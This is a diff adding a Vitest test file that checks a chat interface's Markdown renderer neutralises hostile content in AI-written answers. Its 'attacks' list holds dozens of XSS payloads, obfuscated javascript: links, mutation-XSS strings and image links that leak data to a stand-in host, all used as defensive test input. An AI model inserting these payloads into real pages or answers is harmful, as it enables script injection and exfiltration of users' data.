@@ -1,0 +1,182 @@
+import { renderToStaticMarkup } from 'react-dom/server';
+import { describe, expect, it } from 'vitest';
+import { AnswerLinksContext } from '../../src/web/chat/markdown/context.ts';
+import { Markdown } from '../../src/web/chat/markdown/Markdown.tsx';
+
+function render(text: string, { base = null, growing = false }: { base?: string | null; growing?: boolean } = {}) {
+  return renderToStaticMarkup(
+    <AnswerLinksContext value={{ ask: () => undefined, base }}>
+      <Markdown text={text} growing={growing} />
+    </AnswerLinksContext>,
+  );
+}
+
+/** Every tag and attribute of the markup; text that only looks like one is escaped and not among them. */
+function tags(html: string): string[] {
+  return [...html.matchAll(/<([a-z0-9]+)((?:\s+[a-zA-Z-]+(?:="[^"]*")?)*)\s*\/?>/g)].map(([, name, attributes]) =>
+    `${name}${attributes}`.toLowerCase(),
+  );
+}
+
+/** What an agent may have read somewhere and repeats. */
+const attacks = [
+  '<script>alert(1)</script>',
+  'a <script>alert(1)</script> b',
+  '<img src=x onerror=alert(1)>',
+  '![x](https://evil.example/leak?q=secret)',
+  '![x][r]\n\n[r]: https://evil.example/leak',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<a href="javascript:alert(1)">x</a>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](java\nscript:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](&#x6A;avascript:alert(1))',
+  '[x](<java\tscript:alert(1)>)',
+  '[x]( javascript:alert(1))',
+  '[x](\u0001javascript:alert(1))',
+  '[x](vbscript:msgbox)',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '[x](file:///etc/passwd)',
+  '[x](blob:https://example.org/1)',
+  '<javascript:alert(1)>',
+  '[x][r]\n\n[r]: javascript:alert(1)',
+  '[x](//evil.example)',
+  '[x](/api/auth/sign-out)',
+  '[x](?code=1)',
+  '[x](#code=stolen)',
+  '[x](app:javascript:alert(1))',
+  '[x](app://evil.example/)',
+  '[x](app:/\\evil.example)',
+  '<style>*{display:none}</style>',
+  '<div style="position:fixed;inset:0">x</div>',
+  '<form action="https://evil.example"><input name=a><button>x</button></form>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href="https://evil.example">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<object data="https://evil.example"></object>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<details open ontoggle=alert(1)>x</details>',
+  '`<img src=x onerror=alert(1)>`',
+  '```"><img src=x onerror=alert(1)>\ncode\n```',
+  '```js" onmouseover="alert(1)\ncode\n```',
+  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
+  '# <img src=x onerror=alert(1)>',
+  '[<img src=x onerror=alert(1)>](https://example.org)',
+  '[x](https://example.org "\\" onmouseover=\\"alert(1)")',
+  'https://example.org/"onmouseover="alert(1)',
+];
+
+const ALLOWED_TAG =
+  /^(?:div|p|br|hr|strong|em|del|blockquote|figure|figcaption|pre|code|span|button|svg|path|a|h3|h4|h5|h6|ul|ol|li|input|section|table|thead|tbody|tr|th|td)(?: |$)/;
+
+describe.each([
+  ['finished', { growing: false }],
+  ['growing', { growing: true }],
+  ['from a page of the application', { base: 'https://app.example.org/cases' }],
+])('an answer, %s', (_, options) => {
+  it.each(attacks)('lets nothing of %j act', (attack) => {
+    for (const text of [attack, `before\n\n${attack}\n\nafter`, `- ${attack}`, `> ${attack}`]) {
+      for (const tag of tags(render(text, options))) {
+        expect(tag).toMatch(ALLOWED_TAG);
+        expect(tag).not.toMatch(/\s(?:on\w+|style|srcdoc|src|action|formaction|id|name)=/);
+        const [, href] = /\shref="([^"]*)"/.exec(tag) ?? [];
+        if (href !== undefined) expect(href).toMatch(/^(?:https:\/\/(?:app\.)?example\.org|mailto:)/);
+      }
+    }
+  });
+});
+
+describe('links', () => {
+  it('lead out in a new tab and tell nobody where from', () => {
+    expect(render('[page](https://example.org/a?b=c&d)')).toContain(
+      '<a href="https://example.org/a?b=c&amp;d" title="https://example.org/a?b=c&amp;d" target="_blank" rel="noopener noreferrer">page</a>',
+    );
+    expect(render('<mail@example.org>')).toContain('href="mailto:mail@example.org"');
+    expect(render('https://example.org')).toContain('href="https://example.org/"');
+  });
+
+  it('with a target that is not allowed are text', () => {
+    expect(render('[page](javascript:alert)')).toBe('<div class="markdown"><p>page</p></div>');
+  });
+
+  it('find their definition in another block', () => {
+    expect(render('[page][p]\n\nmore\n\n[p]: https://example.org/p')).toContain('href="https://example.org/p"');
+  });
+});
+
+describe('chips', () => {
+  it('lead to the application where the question was asked', () => {
+    const html = render('[Case 42](app:/cases/42?tab=a)', { base: 'https://app.example.org/start' });
+    expect(html).toContain('href="https://app.example.org/cases/42?tab=a"');
+    expect(html).toContain('rel="noopener noreferrer"');
+  });
+
+  it('show their path where the application is not known', () => {
+    for (const base of [null, '/cases', 'not a url', 'javascript:alert(1)']) {
+      const html = render('[Case 42](app:/cases/42)', { base });
+      expect(html).not.toContain('<a');
+      expect(html).toContain('/cases/42');
+    }
+  });
+
+  it('that ask are buttons', () => {
+    expect(render('[More](ask:Show%20more)')).toMatch(
+      /<button type="button"[^>]*title="Ask: Show more"[^>]*>.*More<\/button>/,
+    );
+  });
+});
+
+describe('what is not Markdown', () => {
+  it('HTML stays readable as text', () => {
+    expect(render('Use the <Foo bar="1"> component')).toContain('Use the &lt;Foo bar=&quot;1&quot;&gt; component');
+    expect(render('<section>\n  <p>hi</p>\n</section>')).toContain('&lt;p&gt;hi&lt;/p&gt;');
+  });
+
+  it('comments are gone, a trailer that came through among them', () => {
+    for (const text of [
+      'Done.\n\n<!-- paliadin {"used_tools":[]} -->',
+      'Done. <!-- x -->',
+      'Done.\n<!-- never closed',
+    ]) {
+      expect(render(text)).not.toMatch(/paliadin|never|--/);
+      expect(render(text)).toContain('Done.');
+    }
+  });
+
+  it('line breaks break, also in a table', () => {
+    expect(render('| a |\n|---|\n| b<br>c |')).toMatch(/<td>b<br\/>\s*c<\/td>/);
+  });
+
+  it('an image leaves its description', () => {
+    expect(render('see ![the plan](https://example.org/p.png)')).toBe(
+      '<div class="markdown"><p>see the plan</p></div>',
+    );
+  });
+});
+
+describe('form', () => {
+  it('puts headings below the question', () => {
+    expect(render('# A\n\n## B\n\n### C')).toMatch(/<h3[^>]*>A<\/h3>.*<h3>B<\/h3>.*<h4>C<\/h4>/s);
+  });
+
+  it('lets a table scroll by itself, reachable by keyboard', () => {
+    expect(render('| a |\n|--:|\n| 1 |')).toMatch(
+      /<section class="table-frame" aria-label="Table" tabindex="0"><table>/i,
+    );
+  });
+
+  it('names the language of code and can copy it', () => {
+    const html = render('```sql\nSELECT 1\n```');
+    expect(html).toContain('sql');
+    expect(html).toContain('aria-label="Copy code"');
+    expect(html).toContain('SELECT 1');
+  });
+
+  it('shows a block without end as plain text', () => {
+    expect(render(`**${'x'.repeat(100_001)}**`)).toContain('<p class="markdown-plain">**xxx');
+  });
+});
